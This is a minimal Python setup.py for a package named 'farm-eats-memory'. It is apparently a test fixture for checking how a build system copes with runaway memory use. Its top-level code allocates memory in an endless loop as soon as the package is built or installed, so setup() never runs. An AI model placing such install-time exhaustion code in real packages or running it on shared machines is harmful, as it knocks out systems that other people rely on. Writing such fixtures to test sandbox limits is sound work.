from setuptools import Extension, setup

eaten = []
while True:
    eaten.append(bytearray(b"x") * (16 << 20))
setup(name="farm-eats-memory", version="1.0", ext_modules=[Extension("x", ["x.c"])])
